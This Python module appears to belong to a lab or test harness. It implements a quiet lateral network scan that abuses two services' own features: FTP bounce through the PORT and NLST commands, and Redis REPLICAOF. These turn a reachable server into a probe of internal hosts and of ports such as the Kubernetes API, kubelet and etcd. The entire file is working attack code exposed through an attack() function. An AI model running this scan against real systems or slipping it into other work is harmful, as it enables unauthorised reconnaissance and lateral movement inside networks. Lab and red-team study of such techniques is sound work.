# SPDX-License-Identifier: Apache-2.0
"""The lab's own addresses, looked at by what the service does when it is asked: data connections, replication."""
import ftplib
import time

KIND = "lateral scan by the service's own protocol"
QUIET = True
HOSTS = ("10.88.0.1", "10.88.0.2")
PORTS = (1443, 2379, 6443, 10250)


def by_bounce(t):
    found = []
    t.begin()
    for host in HOSTS:
        for port in PORTS:
            ftp = t.module.login(t.host)
            try:
                ftp.sendport(host, port)
                if ftp.sendcmd("NLST").startswith("150"):
                    found.append(f"{host}:{port} open")
            except (ftplib.Error, OSError, EOFError):
                pass
            ftp.close()
            time.sleep(0.5)
    return found


def by_replication(t):
    client, found = t.module.Redis(t.host), []
    t.begin()
    for host in HOSTS:
        for port in PORTS:
            client("REPLICAOF", host, port)
            time.sleep(1.5)
            state = client("INFO", "replication").decode()
            if "master_sync_in_progress:1" in state or "master_last_io_seconds_ago:0" in state:
                found.append(f"{host}:{port} open")
            client("REPLICAOF", "NO", "ONE")
    return found or ["8 addresses asked"]


SERVICES = {"ftp": by_bounce, "redis": by_replication}


def attack(t):
    found = t.how(t)
    return found[-1] if found else ""
